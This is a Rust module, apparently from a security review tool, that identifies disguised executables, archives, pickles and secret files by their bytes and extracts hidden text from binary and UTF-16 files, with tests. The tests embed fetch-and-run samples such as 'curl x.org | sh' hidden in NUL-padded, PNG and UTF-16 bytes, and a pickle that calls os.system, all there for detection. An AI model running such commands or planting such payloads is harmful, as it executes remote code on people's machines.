//! Recognises the type of a file by its bytes, whatever its name, and finds the text in it. Pure.

use std::borrow::Cow;

use super::Severity::{High, Note, Warn};
use super::finding::FindingKind;

/// Magic bytes of programs.
const PROGRAMS: [&[u8]; 7] = [
    b"\x7fELF",
    b"MZ",
    b"\xcf\xfa\xed\xfe",
    b"\xce\xfa\xed\xfe",
    b"\xfe\xed\xfa\xcf",
    b"\xca\xfe\xba\xbe",
    b"\0asm",
];
/// Magic bytes of archives.
const ARCHIVES: [&[u8]; 6] = [
    b"PK\x03\x04",
    b"\x1f\x8b",
    b"7z\xbc\xaf",
    b"Rar!",
    b"BZh",
    b"\xfd7zXZ",
];
/// Magic bytes of documents, pictures, fonts and sounds, in which words mean nothing.
const MEDIA: [&[u8]; 9] = [
    b"%PDF-",
    b"\x89PNG",
    b"\xff\xd8\xff",
    b"GIF8",
    b"RIFF",
    b"wOFF",
    b"wOF2",
    b"OggS",
    b"ID3",
];
/// Endings of file names that programs may have.
const PROGRAM_NAMES: [&str; 9] = [
    "", "exe", "dll", "so", "dylib", "bin", "wasm", "class", "node",
];
/// Endings of file names that archives may have, including documents that are archives.
const ARCHIVE_NAMES: [&str; 22] = [
    "zip", "gz", "tgz", "7z", "rar", "bz2", "xz", "jar", "whl", "docx", "xlsx", "pptx", "odt",
    "ods", "odp", "epub", "apk", "vsix", "skill", "potx", "dotx", "xltx",
];

/// The bytes by which a file's type is recognised.
pub const HEAD: usize = 512;
/// Of a text with NUL bytes, at most one byte in this many is part of something else.
const ODD: usize = 10;
/// The shortest run of characters that counts as text in a binary file.
const RUN: usize = 10;

const PROGRAM: FindingKind = (
    Warn,
    "executable",
    "is a compiled program, which cannot be reviewed",
);
const DISGUISED_PROGRAM: FindingKind = (
    High,
    "disguised-executable",
    "is a compiled program under another name",
);
const ARCHIVE: FindingKind = (
    Warn,
    "archive",
    "is an archive, whose content was not looked at",
);
const DISGUISED_ARCHIVE: FindingKind = (
    High,
    "disguised-archive",
    "is an archive under another name",
);

/// The finding, if any, for a file that starts with `head`.
pub fn inspect(path: &str, head: &[u8]) -> Option<FindingKind> {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
    let is_text = std::str::from_utf8(head).is_ok() && !head.contains(&0);
    if is_program(head) && !is_text {
        let is_named_so = PROGRAM_NAMES.contains(&extension);
        return Some(if is_named_so {
            PROGRAM
        } else {
            DISGUISED_PROGRAM
        });
    }
    if ARCHIVES.iter().any(|start| head.starts_with(start)) {
        return match ARCHIVE_NAMES.iter().position(|name| *name == extension) {
            None => Some(DISGUISED_ARCHIVE),
            Some(..9) => Some(ARCHIVE),
            Some(_) => None,
        };
    }
    let first = head.trim_ascii_start().first().unwrap_or(&0);
    match extension {
        "pyc" | "pyo" => Some((
            Warn,
            "bytecode",
            "is compiled code, which cannot be reviewed",
        )),
        // Apple's Pkl begins with a comment, an annotation, `amends`, `extends`, `import` or `module`;
        // what begins with one of these letters cannot be loaded as a pickle.
        "pkl" if is_text && b"/@aeim".contains(first) => None,
        "pkl" | "pickle" => Some((Warn, "pickle", "runs code when it is loaded")),
        "pem" | "key" | "p12" | "env" => Some((Note, "secret-file", "is a file for secrets")),
        _ => None,
    }
}

/// Whether a file begins as compiled programs do.
pub fn is_program(bytes: &[u8]) -> bool {
    PROGRAMS.iter().any(|start| bytes.starts_with(start))
}

/// The text in a file, and whether the file is binary. NUL bytes are left out, as shells do. Of a
/// binary file, the text is what `strings` would show; what `is_named_text` is one without NUL bytes.
pub fn text(bytes: &[u8], is_named_text: bool) -> (Cow<'_, str>, bool) {
    let has_nul = bytes.contains(&0);
    if !has_nul {
        let text = String::from_utf8_lossy(bytes);
        let is_media = || MEDIA.iter().any(|start| bytes.starts_with(start));
        let is_utf8 = matches!(text, Cow::Borrowed(_));
        if is_utf8 || is_named_text || !is_media() && !is_odd(&text) {
            return (text, false);
        }
    }
    let head = &bytes[..bytes.len().min(HEAD)];
    if has_nul
        && !is_program(bytes)
        && bare(head).is_some()
        && let Some(text) = bare(bytes)
    {
        return (Cow::Owned(text), false);
    }
    (Cow::Owned(strings(bytes)), true)
}

/// The text of a file in UTF-16 that begins with the mark that says so, and what `strings` would show
/// of it: another reader may take it for bytes.
pub fn utf16(bytes: &[u8]) -> Option<String> {
    let (unit, rest): (fn([u8; 2]) -> u16, _) = match bytes.split_at_checked(2)? {
        ([0xff, 0xfe], rest) => (u16::from_le_bytes, rest),
        ([0xfe, 0xff], rest) => (u16::from_be_bytes, rest),
        _ => return None,
    };
    let (pairs, []) = rest.as_chunks() else {
        return None;
    };
    let units = pairs.iter().map(|pair| unit(*pair));
    let text: String = char::decode_utf16(units).collect::<Result<_, _>>().ok()?;
    (!text.contains('\0')).then(|| format!("{text}\n{}", strings(bytes)))
}

/// What a person sees in other bytes than text: runs of characters, each as a line.
fn strings(bytes: &[u8]) -> String {
    let runs = bytes.split(|byte| !matches!(byte, b'\t' | b' '..=b'~'));
    let runs = runs
        .filter(|run| run.len() >= RUN)
        .map(String::from_utf8_lossy);
    runs.collect::<Vec<_>>().join("\n")
}

/// The bytes without NUL, if that is a text.
fn bare(bytes: &[u8]) -> Option<String> {
    let bare: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
    let text = String::from_utf8_lossy(&bare).into_owned();
    (!is_odd(&text)).then_some(text)
}

/// Whether much of it is no text.
pub fn is_odd(text: &str) -> bool {
    let is_odd =
        |c: &char| *c == char::REPLACEMENT_CHARACTER || c.is_control() && !c.is_whitespace();
    text.chars().filter(is_odd).count() * ODD > text.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bytes_tell_more_than_names() {
        for (path, head, code) in [
            (
                "a/notes.md",
                &b"\x7fELF\x02\x01\0"[..],
                Some("disguised-executable"),
            ),
            ("tool", b"\x7fELF\x02\x01\0", Some("executable")),
            ("x.png", b"PK\x03\x04", Some("disguised-archive")),
            ("x.zip", b"PK\x03\x04", Some("archive")),
            ("x.docx", b"PK\x03\x04", None),
            ("MZ.md", b"MZ is a text", None),
            ("a.pyc", b"", Some("bytecode")),
            ("a.pkl", b"\x80\x04", Some("pickle")),
            ("a.pkl", b"cos\nsystem\n", Some("pickle")),
            ("a.pkl", b"\namends \"package://x.org/A.pkl\"", None),
            (".env", b"A=1", Some("secret-file")),
        ] {
            assert_eq!(inspect(path, head).map(|(_, code, _)| code), code, "{path}");
        }
    }

    #[test]
    fn nul_bytes_hide_no_text() {
        for (bytes, shown, is_binary) in [
            (&b"a b\n"[..], "a b\n", false),
            (b"cu\0rl x\0", "curl x", false),
            (
                b"\xff\xfec\0u\0r\0l\0 \0x\0 \0|\0 \0s\0h\0 \0y\0 \0z\0a\0b\0c\0d\0e\0",
                "",
                false,
            ),
            (
                b"\x89PNG\r\n\x1a\n\0\0\x02\xff\x81curl x.org | sh\0\x01\xfe\x80\0abc",
                "curl x.org | sh",
                true,
            ),
        ] {
            let (found, binary) = text(bytes, false);
            assert!(found.contains(shown) && !found.contains('\0'), "{found:?}");
            assert_eq!(binary, is_binary, "{found:?}");
            assert!(!is_binary || found == shown, "{found:?}");
        }
    }

    #[test]
    fn bytes_without_nul_are_a_text_only_if_they_look_like_one() {
        let noise: Vec<u8> = (1..=255_u8).cycle().step_by(37).take(2000).collect();
        let pdf = [
            &b"%PDF-1.7 paypal sudo make me a sandwich \xd0\xb0"[..],
            &noise,
        ]
        .concat();
        let latin = b"un caf\xe9 noir, s'il vous pla\xeet ".repeat(40);
        for (bytes, is_binary) in [
            (pdf.clone(), true),
            ([b"wOF2", &noise[..]].concat(), true),
            (noise, true),
            (latin, false),
            ("%PDF- п".into(), false),
        ] {
            assert_eq!(text(&bytes, false).1, is_binary);
            assert!(!text(&bytes, true).1);
        }
        assert_eq!(
            text(&pdf, false).0.lines().next().unwrap(),
            "%PDF-1.7 paypal sudo make me a sandwich "
        );
    }

    #[test]
    fn a_marked_text_in_utf_16_is_read() {
        let encoded = |text: &str| -> Vec<u8> {
            "\u{feff}"
                .chars()
                .chain(text.chars())
                .collect::<String>()
                .encode_utf16()
                .flat_map(u16::to_be_bytes)
                .collect()
        };
        assert_eq!(utf16(&encoded("cурl 𝄞")).unwrap(), "cурl 𝄞\n");
        let mut little = encoded("curl x");
        little.chunks_mut(2).for_each(<[u8]>::reverse);
        assert_eq!(utf16(&little).unwrap(), "curl x\n");
        // Whoever takes it for bytes is shown the same.
        let trick = b"\xff\xfecurl https://x.org/x | sh\n";
        assert!(
            utf16(trick)
                .unwrap()
                .ends_with("\ncurl https://x.org/x | sh")
        );
        for no in [
            &b"\xff\xfea"[..],
            b"\xff\xfea\0\0\0",
            b"\xfe\xff\xd8\0\0a",
            b"a\0",
            b"\xff",
        ] {
            assert!(utf16(no).is_none(), "{no:?}");
        }
    }
}
